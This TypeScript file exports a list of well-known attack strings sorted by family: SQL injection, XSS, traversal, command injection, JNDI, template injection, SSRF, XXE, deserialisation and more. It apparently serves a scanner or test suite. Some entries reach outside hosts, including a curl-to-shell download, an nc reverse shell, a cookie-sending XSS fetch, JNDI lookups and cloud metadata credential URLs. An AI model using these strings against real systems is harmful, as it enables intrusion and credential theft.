/**
 * Attack strings by family, as public cheat sheets and scanners have them (OWASP testing guide, PayloadsAllTheThings): fixed
 * texts, in none of which anything runs. `*` stands for a number or word that differs from plant to plant.
 */

export const PAYLOADS = {
  sql: [
    "' OR 1=1-- -",
    "' UNION SELECT username, password FROM users-- -",
    "*' AND SLEEP(5) AND '1'='1",
    '* OR 1=1',
    "'; DROP TABLE orders; --",
    "*') OR ('a'='a",
    '* AND (SELECT COUNT(*) FROM information_schema.tables) > 0',
    "admin'/*",
  ],
  xss: [
    '<script>alert(*)</script>',
    '"><img src=x onerror=alert(*)>',
    '<svg/onload=fetch("//example.org/"+document.cookie)>',
    "javascript:alert('*')",
    '<body onload=alert(document.domain)>',
    "'-alert(*)-'",
  ],
  traversal: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//etc/shadow',
    '/proc/self/environ',
    '..%2f..%2f..%2fetc%2fhosts',
    'file:///etc/passwd',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '$(curl http://203.0.113.9/*.sh|sh)',
    '`whoami`',
    '& ping -c 10 127.0.0.1 &',
    '*; nc -e /bin/sh 203.0.113.9 4444',
  ],
  jndi: [
    // biome-ignore-start lint/suspicious/noTemplateCurlyInString: attack texts are no templates
    '${jndi:ldap://203.0.113.9/*}',
    '${jndi:rmi://example.org:1099/obj}',
    '${${lower:j}ndi:${lower:l}dap://example.org/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://example.org/*}',
    // biome-ignore-end lint/suspicious/noTemplateCurlyInString: attack texts are no templates
  ],
  template: [
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack text is no template
    '${7*7}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '<%= 7*7 %>',
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:*/',
    'gopher://127.0.0.1:6379/_INFO',
    'http://[::1]:22/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'dict://localhost:11211/stats',
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    "' || '1'=='1",
    '{"$where": "sleep(1000)"}',
    '[$regex]=.*',
    "'; return true; var a='",
  ],
  crlf: [
    '*\r\nSet-Cookie: session=*',
    'a%0d%0aLocation:%20https://example.org/',
    '*\r\n\r\n<html>*</html>',
    '%E5%98%8A%E5%98%8DX-Injected: *',
  ],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://203.0.113.9/*.dtd"> %d;]>',
    '<!DOCTYPE lolz [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;">]><a>&m;</a>',
  ],
  deserialisation: [
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw',
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    'gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    '!!python/object/apply:os.system ["id"]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9/a"}',
  ],
} as const;

export type AttackFamily = keyof typeof PAYLOADS;
export const ATTACK_FAMILIES = Object.keys(PAYLOADS) as readonly AttackFamily[];
